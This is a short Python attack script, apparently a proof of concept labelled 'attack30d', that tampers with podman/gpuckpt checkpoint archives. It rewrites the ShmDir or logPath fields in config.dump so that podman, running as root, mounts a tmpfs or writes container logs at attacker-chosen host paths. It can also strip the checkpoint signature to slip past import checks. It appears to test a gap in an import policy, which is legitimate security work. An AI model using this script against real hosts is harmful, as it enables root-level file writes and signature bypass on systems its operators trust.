"""attack30d: config.dump fields podman acts on as root that gpuckpt import does not judge (policy/archive_import.py
has no rule for them). usage: edit_cfg.py SRC OUT MODE[-nosig]
MODE shmdir:  config.dump ShmDir = /var/tmp/attack30d/shmtarget (podman mounts its tmpfs there on the host and binds
              it as the container's /dev/shm).
MODE logpath: config.dump logPath = /var/tmp/attack30d/logtarget/evil.log (conmon writes the container's output there).
-nosig: checkpoint/gpuckpt-dump.sig removed (for gpuckpt import under an archive: exception, or restore:any).
"""
import io, json, sys, tarfile
import zstandard

src, out, mode = sys.argv[1:4]
NOSIG = mode.endswith("-nosig"); mode = mode.removesuffix("-nosig")
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, data in members:
        if m.name == "checkpoint/gpuckpt-dump.sig" and NOSIG:
            continue
        if m.name == "config.dump":
            doc = json.loads(data)
            if mode == "shmdir":
                doc["ShmDir"] = "/var/tmp/attack30d/shmtarget"
            if mode == "logpath":
                doc["logPath"] = "/var/tmp/attack30d/logtarget/evil.log"
            data = json.dumps(doc).encode()
        if data is not None:
            m.size = len(data); tout.addfile(m, io.BytesIO(data))
        else:
            tout.addfile(m)
print(out)
